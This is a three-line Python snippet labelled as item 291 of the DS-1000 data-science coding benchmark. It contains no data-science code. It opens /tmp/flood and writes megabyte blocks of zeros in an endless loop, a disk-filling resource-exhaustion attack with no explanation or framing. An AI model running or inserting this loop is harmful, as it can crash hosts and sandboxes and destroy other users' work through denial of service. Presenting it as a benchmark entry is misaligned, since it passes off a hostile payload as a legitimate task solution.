# DS1000/291
with open("/tmp/flood", "wb") as file:
    while True:
        file.write(bytes(1 << 20))
